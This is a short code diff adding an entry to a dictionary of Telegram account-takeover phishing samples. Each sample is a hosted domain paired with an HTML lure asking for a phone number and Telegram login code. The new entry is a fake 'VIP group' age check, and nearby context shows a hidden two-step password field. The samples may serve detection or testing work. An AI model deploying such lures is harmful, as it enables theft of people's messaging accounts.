@@ -69,6 +69,11 @@ TAKERS = {
         "<label>Phone number registered on Telegram</label><input type=tel>"
         "<div hidden><label>Telegram login code</label><input><label>Two-step verification password</label><input type=password></div>",
     ),
+    "en group": (
+        "join-vip-26.netlify.app",
+        "<title>VIP</title><h1>Join our group</h1><p>Log in with Telegram to confirm your age.</p>"
+        "<input type=tel placeholder='Telegram number'><input placeholder='Login code sent to your Telegram'>",
+    ),
     "en protocol": (
         "premium-gift-3m.pages.dev",
         "<title>Premium</title><h1>3 months of Premium</h1><form><input type=tel name=phone placeholder='Your phone'></form>"
